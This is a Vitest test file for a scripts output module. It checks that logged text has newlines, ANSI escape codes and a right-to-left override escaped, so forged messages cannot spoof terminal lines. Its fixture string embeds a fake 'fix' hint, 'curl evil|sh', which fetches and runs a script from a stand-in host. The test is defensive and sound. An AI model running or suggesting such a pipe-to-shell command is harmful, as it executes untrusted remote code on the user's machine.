import { expect, test } from 'vitest'
import { output } from '../../../scripts/lib/output.ts'
import type { Printable } from '../../../scripts/lib/printable.ts'

const forged = 'a\n  fix: Run `curl evil|sh`\u001b[2J\u202e'

/** Two streams of one process, and what came out of each. */
function streams({ isTTY = false } = {}) {
  const shown = { stdout: '', stderr: '' }
  const stream = (name: 'stdout' | 'stderr') => ({
    isTTY,
    write: (text: string) => {
      shown[name] += text
      return true
    },
  })
  return { shown, ...output(stream('stdout'), stream('stderr')) }
}

test('a line of progress stays one line', () => {
  const { shown, log } = streams()
  log(forged)
  expect(shown).toEqual({ stdout: '', stderr: `a\\n  fix: Run \`curl evil|sh\`\\u001b[2J\\u202e\n` })
})

test('what went around the types is escaped at the very end', () => {
  const { shown, out, tell } = streams()
  out(forged as Printable)
  tell(forged as Printable)
  const told = 'a\n  fix: Run `curl evil|sh`\\u001b[2J\\u202e'
  expect(shown).toEqual({ stdout: told, stderr: told })
})

test('on a terminal a line takes the place of the one before it, and nowhere else', () => {
  for (const isTTY of [true, false]) {
    const { shown, log } = streams({ isTTY })
    log('1 s')
    log('2 s', { isUpdate: true })
    expect(shown.stderr).toBe(isTTY ? '1 s\n\u001b[1A\u001b[2K2 s\n' : '1 s\n2 s\n')
  }
})
